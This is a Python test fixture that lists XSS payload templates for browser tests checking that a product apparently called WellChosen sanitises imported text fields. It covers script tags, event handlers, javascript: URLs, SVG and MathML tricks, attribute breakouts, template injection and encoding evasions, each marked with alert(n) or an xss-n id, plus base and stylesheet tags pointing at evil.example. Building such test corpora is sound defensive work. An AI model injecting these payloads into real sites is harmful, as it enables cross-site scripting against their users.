"""The XSS payload corpus: what an attacker puts into every text field that WellChosen imports.

Each payload is numbered; whatever it would do if it ran is visible to the browser test: a script
calls ``alert(n)`` (a dialog), markup makes an element with the id ``xss-n`` or an attribute
``on...`` (found in the DOM even where the Content-Security-Policy stops the script), and a
template that got rendered writes ``xss-tpl-n`` (its source never holds that string).
"""

TEMPLATES = [
    # script elements
    "<script>alert({n})</script>",
    "<ScRiPt>alert({n})</sCrIpT>",
    "<script id=xss-{n} src=data:,alert({n})></script>",
    "</script><script id=xss-{n}>alert({n})</script>",
    "<script>/*</script><b id=xss-{n}>*/</script>",
    # event handlers
    "<img id=xss-{n} src=x onerror=alert({n})>",
    "<svg id=xss-{n} onload=alert({n})>",
    "<body id=xss-{n} onload=alert({n})>",
    "<details id=xss-{n} open ontoggle=alert({n})>",
    "<input id=xss-{n} autofocus onfocus=alert({n})>",
    "<video id=xss-{n}><source onerror=alert({n})></video>",
    "<iframe id=xss-{n} srcdoc='<script>parent.alert({n})</script>'></iframe>",
    "<div id=xss-{n} style=animation-name:x onanimationstart=alert({n})>",
    "<img id=xss-{n} src=x onerror=alert&#40;{n}&#41;>",
    # javascript: URLs
    "javascript:alert({n})",
    "<a id=xss-{n} href='javascript:alert({n})'>click</a>",
    "<a id=xss-{n} href='jav&#x09;ascript:alert({n})'>click</a>",
    "<iframe id=xss-{n} src='javascript:alert({n})'></iframe>",
    "<form id=xss-{n} action='javascript:alert({n})'><button>go</button></form>",
    "<object id=xss-{n} data='javascript:alert({n})'></object>",
    # SVG and MathML
    "<svg><script>alert({n})</script></svg>",
    "<svg><animate id=xss-{n} onbegin=alert({n}) attributeName=x dur=1s>",
    "<svg><a id=xss-{n} xlink:href='javascript:alert({n})'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img id=xss-{n} src=x onerror=alert({n})>",
    "<svg><foreignObject><span id=xss-{n}>svg {n}</span></foreignObject></svg>",
    # breaking out of attributes, elements and comments
    '" onmouseover="alert({n})" data-x="',
    "' onfocus='alert({n})' autofocus data-x='",
    '"><img id=xss-{n} src=x onerror=alert({n})>',
    "'><svg id=xss-{n} onload=alert({n})>",
    "</textarea><span id=xss-{n}>textarea {n}</span>",
    "</title><span id=xss-{n}>title {n}</span>",
    "--><span id=xss-{n}>comment {n}</span><!--",
    "]]><span id=xss-{n}>cdata {n}</span>",
    "</style><span id=xss-{n}>style {n}</span>",
    "<base id=xss-{n} href='https://evil.example/'>",
    "<meta id=xss-{n} http-equiv=refresh content='0;url=javascript:alert({n})'>",
    "<link id=xss-{n} rel=stylesheet href='https://evil.example/{n}.css'>",
    # template injection (Django, Jinja, Angular, JavaScript template literals)
    '{{{{ "xss-tpl-"|add:"{n}" }}}}',
    "{{% filter lower %}}XSS-TPL-{n}{{% endfilter %}}",
    "{{{{constructor.constructor('alert({n})')()}}}}",
    "${{alert({n})}}",
    "#{{alert({n})}}",
    # unicode and encoding tricks
    "\uff1cscript\uff1ealert({n})\uff1c/script\uff1e",
    "\u202e<span id=xss-{n}>rtl {n}</span>",
    "<scr\u200bipt>alert({n})</scr\u200bipt>",
    "%3Cimg%20id%3Dxss-{n}%20src%3Dx%20onerror%3Dalert({n})%3E",
    "&lt;img id=xss-{n} src=x onerror=alert({n})&gt;",
    "\\u003cimg id=xss-{n} src=x onerror=alert({n})\\u003e",
    "\\x3cimg id=xss-{n} src=x onerror=alert({n})\\x3e",
    "\u00abscript\u00bbalert({n})\u00ab/script\u00bb",
]


def payloads() -> list[str]:
    """Every payload, numbered from 1 (the number is in its marker: alert(n), id xss-n)."""
    return [template.format(n=n) for n, template in enumerate(TEMPLATES, 1)]
